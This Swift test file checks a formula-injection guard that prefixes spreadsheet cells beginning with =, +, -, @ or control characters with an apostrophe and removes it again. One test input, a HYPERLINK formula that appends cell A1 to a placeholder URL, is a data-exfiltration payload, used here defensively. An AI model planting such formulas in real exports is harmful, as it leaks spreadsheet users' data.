import Bitext
import Interchange
import Linguistics
import Testing

@Suite struct FormulaGuardTests {
  @Test(arguments: [
    "=1+1", "+7 727", "-5", "- сказал он", "@SUM(A1)", "\t=1", "\r=1", "＝1", "'=1", "''-1",
    "=HYPERLINK(\"http://example.org/?\"&A1)",
  ])
  func `A formula stands behind an apostrophe, which is taken off again`(text: String) {
    let cell = FormulaGuard.guarded(text)
    #expect(cell == "'" + text)
    #expect(FormulaGuard.isGuarded(cell))
    #expect(FormulaGuard.text(cell) == text)
  }

  @Test(arguments: ["", "Да", "– сказал он", "— Да!", "'тис", "5 = 5", "a@b.kz", "'", " =1"])
  func `Other texts are left as they are`(text: String) {
    #expect(FormulaGuard.guarded(text) == text)
    #expect(FormulaGuard.text(text) == text)
  }

  @Test func `Whatever a text begins with comes back`() {
    let marks: [Character] = ["'", "=", "-", "+", "@", "\t", "\r", "а", " "]
    for first in marks {
      for second in marks {
        for third in marks {
          let text = String([first, second, third])
          #expect(FormulaGuard.text(FormulaGuard.guarded(text)) == text)
        }
      }
    }
  }
}
